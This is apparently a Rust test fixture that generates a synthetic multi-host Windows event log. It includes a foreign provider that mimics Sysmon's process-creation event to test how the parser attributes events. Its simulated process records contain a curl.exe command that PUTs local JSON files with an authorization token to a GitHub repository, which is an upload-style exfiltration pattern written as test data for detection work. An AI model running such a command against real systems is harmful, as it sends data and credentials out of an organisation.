//! A collector's log: several hosts and several providers in one file, in the order in which they arrived, with the
//! computer's name in each record. The provider decides what is Sysmon's, never the number of the event: here
//! another one writes an event 1 that looks like an upload.

use super::git;
use super::host::Host;
use super::names::{GITHUB, GITHUB_API, Shown, TOKEN};
use super::{Fixture, Log};
use crate::support::clock::{Millis, Ticks};
use crate::support::evtx_writer::record::{ComputerName, Provider, Shape};
use crate::support::evtx_writer::value::{Guid, Kind, Value};
use crate::support::scenarios::event::Event;

const CURL: &str = r"C:\Windows\System32\curl.exe";
const CODE: &str = r"C:\Program Files\Microsoft VS Code\Code.exe";
const NODE: &str = r"C:\Program Files\nodejs\node.exe";

/// A foreign tracing provider, with Sysmon's names and numbers.
static FOREIGN: Provider = Provider {
    name: "Example-Tracing-Agent",
    guid: Guid::from_number(0x6b1d_f2a0_97c4_4c1e_8d53_0f4e_2a6b_91d7),
    channel: "Example-Tracing-Agent/Operational",
};
static FOREIGN_PROCESS: Shape = Shape {
    provider: &FOREIGN,
    event_id: 1,
    version: 0,
    level: 4,
    task: 1,
    opcode: 1,
    keywords: 0,
    fields: &[
        ("UtcTime", Kind::Text),
        ("ProcessGuid", Kind::Guid),
        ("ProcessId", Kind::UInt32),
        ("Image", Kind::Text),
        ("CommandLine", Kind::Text),
    ],
};

pub fn fixture() -> Fixture {
    let mut events: Vec<Event> = Vec::new();
    for (number, name) in (0_u64..).zip(["ws-3001.corp.example", "WS-3002.corp.example", "SRV-FILE1"]) {
        let mut host = Host::new(name, Ticks::at((2026, 3, 4), "14:00:00.0000000") + Millis(number * 7_300));
        host.act_as(&format!(r"CORP\user{number}"));
        let explorer = host.running(r"C:\Windows\explorer.exe", r"C:\WINDOWS\Explorer.EXE");
        for round in 0..4 {
            push_and_upload(&mut host, &explorer, round);
            host.wait(60_000);
        }
        // The same host under another spelling of its name is the same host.
        if number == 0 {
            for event in host.sysmon.iter_mut().filter(|event| event.shape.event_id == 3) {
                event.computer = "WS-3001.CORP.EXAMPLE".into();
            }
        }
        events.append(&mut host.sysmon);
        events.append(&mut host.security);
    }
    let log = Log::sorted(880_001, events);
    let bytes = log.to_bytes(ComputerName::InRecord).expect("every record fits into a chunk");
    Fixture { path: "forwarded.evtx", bytes, log: Some(log) }
}

fn push_and_upload(host: &mut Host, explorer: &super::host::Process, round: u64) {
    let shell = host.start(explorer, super::four_tests::POWERSHELL, "powershell.exe");
    let line = format!(
        "curl.exe -X PUT -H \"Authorization: token {TOKEN}\" -d @{round}.json \
         https://api.github.com/repos/df00tech-lab/drop/contents/{round}"
    );
    let curl = host.start(&shell, CURL, &line);
    host.ask(&curl, &GITHUB_API);
    host.connect(&curl, &GITHUB_API, Shown::Dash);
    let given = [("Image", Value::from(CURL)), ("CommandLine", line.into())];
    host.log(&FOREIGN_PROCESS, &curl, 6, &given);
    host.exit(&curl);
    git::local(host, &shell, "status --porcelain");
    let code = host.start(explorer, CODE, "Code.exe");
    let node = host.start(&code, NODE, "node.exe server.js");
    host.connect(&node, &GITHUB, Shown::Asked);
    host.exit(&node);
}
